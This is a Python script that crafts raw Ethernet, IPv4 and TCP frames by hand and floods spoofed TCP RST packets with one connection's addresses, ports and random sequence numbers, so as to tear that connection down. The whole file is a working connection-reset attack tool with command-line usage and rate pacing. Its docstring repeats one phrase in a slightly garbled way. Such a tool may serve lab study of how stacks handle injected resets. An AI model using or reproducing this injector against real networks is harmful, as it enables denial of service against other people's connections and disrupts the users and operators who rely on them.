#!/usr/bin/python3
"""Send N spoofed IPv4 RSTs with one connection's 4-tuple and random sequence
numbers, fast: frames built with struct and sent on an AF_PACKET socket, paced
at RATE frames/s (frames built with struct, in milliseconds
rather than seconds, so they land while the connection is still alive).
usage: spoof_rst_raw.py IFACE DST_MAC SRC SPORT DST DPORT N [RATE]"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    iface, dst_mac, src, sport, dst, dport, n = sys.argv[1:8]
    rate = int(sys.argv[8]) if len(sys.argv) > 8 else 20000
    sport, dport, n = int(sport), int(dport), int(n)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    src_mac = sock.getsockname()[4]
    eth = bytes.fromhex(dst_mac.replace(":", "")) + src_mac + b"\x08\x00"
    s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
    rnd = random.Random(5961)
    frames = []
    for i in range(n):
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xFFFF, 0x4000, 64, 6, 0, s4, d4)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        tcp = struct.pack("!HHIIBBHHH", sport, dport, rnd.getrandbits(32), 0, 5 << 4, 0x04, 0, 0, 0)
        c = csum(s4 + d4 + struct.pack("!BBH", 0, 6, 20) + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        frames.append(eth + ip + tcp)
    batch = max(1, rate // 1000)  # frames per millisecond
    t0 = time.monotonic()
    for i in range(0, n, batch):
        for f in frames[i:i + batch]:
            sock.send(f)
        ahead = t0 + (i + batch) / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
    print(f"sent {n} spoofed RSTs {src}:{sport} > {dst}:{dport} in {time.monotonic() - t0:.2f} s")


main()
